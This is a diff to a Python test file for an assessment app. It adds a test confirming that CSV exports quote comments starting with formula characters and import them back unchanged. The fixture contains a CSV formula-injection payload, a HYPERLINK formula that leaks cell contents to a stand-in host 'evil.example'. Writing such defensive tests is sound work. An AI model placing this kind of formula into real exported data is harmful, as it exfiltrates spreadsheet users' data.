@@ -3,6 +3,9 @@ refused; the official result is the finalized manager assessment."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -11,6 +14,7 @@ from skillgrid.domain.assessments import OPERATOR, Actor, AssessmentError, Entry
 from skillgrid.domain.errors import Conflict, InputError, NotFound
 from skillgrid.domain.leveling import Rating, level
 from skillgrid.domain.people import Role
+from skillgrid.formulas import TRIGGERS
 from skillgrid.services import assessment_files, assessments, cycles, frameworks, people, results
 from tests.unit.fakes import FakeUnitOfWork
 from tests.unit.test_leveling import MAC, sre, through
@@ -187,6 +191,28 @@ def test_export_then_import_keeps_every_rating(uow) -> None:
     )
     again = assessment_files.export_ratings(uow, OPERATOR, "cy@x.org", "2026-H2", "self")
     assert again == text
+
+
+def test_a_comment_that_looks_like_a_formula_is_exported_quoted_and_read_back_as_written(
+    uow,
+) -> None:
+    link = '=HYPERLINK("http://evil.example/?leak="&A1,"see evidence")'
+    ratings = {
+        "PO.1.1": Entry(Rating.MEETS, comment=link),
+        "PO.2.1": Entry(Rating.MEETS, comment="'@already quoted"),
+        MAC: Entry(Rating.NOT_APPLICABLE, "-no Linux hosts"),
+    }
+    assessments.rate(uow, ANA, "ana@x.org", "2026-H2", "self", ratings)
+    text = assessment_files.export_ratings(uow, ANA, "ana@x.org", "2026-H2", "self")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + link in cells and "''@already quoted" in cells and "'-no Linux hosts" in cells
+    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
+    assessment_files.import_ratings(
+        uow, OPERATOR, "cy@x.org", "2026-H2", "self", text.encode(), "a.csv"
+    )
+    again, framework = assessments.get_assessment(uow, OPERATOR, "cy@x.org", "2026-H2", "self")
+    by_id = {c.uid: c.id for c in framework.criteria}
+    assert {by_id[uid]: entry for uid, entry in again.entries.items()} == ratings
 
 
 YAML_ASSESSMENT = b"""
